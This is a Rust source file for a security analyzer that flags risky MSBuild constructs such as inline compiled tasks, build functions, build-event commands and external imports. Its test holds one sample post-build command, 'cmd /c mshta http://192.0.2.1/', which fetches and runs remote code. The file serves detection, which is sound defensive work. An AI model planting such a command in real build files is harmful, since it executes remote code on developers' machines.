//! Build projects: code and commands that a build runs.

use super::{Analyzer, Findings, Found, Look, Sees};
use crate::formats::command_line;
use crate::model::{Fact, Kind};

/// Its row in the table.
pub(super) const ROW: Analyzer = Analyzer {
    name: "msbuild",
    kinds: &[Kind::MsBuild],
    sees: Sees::Content,
    findings: &["msbuild-inline-task", "msbuild-build-event"],
    run,
};

fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
    let knowledge = &look.knowledge.commands;
    for fact in &look.artifact.facts {
        match fact {
            Fact::InlineTask {
                name,
                factory,
                code,
            } => {
                let class = factory
                    .rsplit('.')
                    .next()
                    .unwrap_or_default()
                    .trim()
                    .to_lowercase();
                if knowledge.msbuild.factories.contains(&class) {
                    let what = format!("task {name} compiled by {factory}: {code}");
                    findings.report(Found::new("msbuild-inline-task", &what));
                }
            }
            Fact::BuildFunction { expression } => {
                let lower = expression.to_lowercase();
                let reaches = |function: &String| {
                    lower
                        .get(2..)
                        .is_some_and(|rest| rest.starts_with(function.as_str()))
                };
                if knowledge.msbuild.functions.iter().any(reaches) {
                    findings.report(Found::new("msbuild-inline-task", expression));
                }
            }
            Fact::BuildCommand { element, line } => {
                let found = Found::new("msbuild-build-event", &format!("{element}: {line}"));
                let runs = command_line::commands(line)
                    .iter()
                    .any(|command| knowledge.interpreters.contains(&command.program));
                findings.report(if runs {
                    found.variant("interpreter")
                } else {
                    found
                });
            }
            Fact::BuildImport { element, target } => {
                let what = format!("{element} from elsewhere: {target}");
                findings.report(Found::new("msbuild-build-event", &what));
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::{artifact, findings_of};
    use super::*;

    #[test]
    fn an_event_that_copies_is_high_and_one_that_calls_an_interpreter_critical() {
        let found = |line: &str| {
            let mut project = artifact(Kind::MsBuild);
            project.facts = vec![Fact::BuildCommand {
                element: "PostBuildEvent".to_owned(),
                line: line.to_owned(),
            }];
            findings_of("msbuild", &[project])
        };
        assert_eq!(
            found("copy a b"),
            [("msbuild-build-event".to_owned(), "high")]
        );
        assert_eq!(
            found("echo x\r\ncmd /c mshta http://192.0.2.1/"),
            [("msbuild-build-event".to_owned(), "critical")]
        );
    }
}
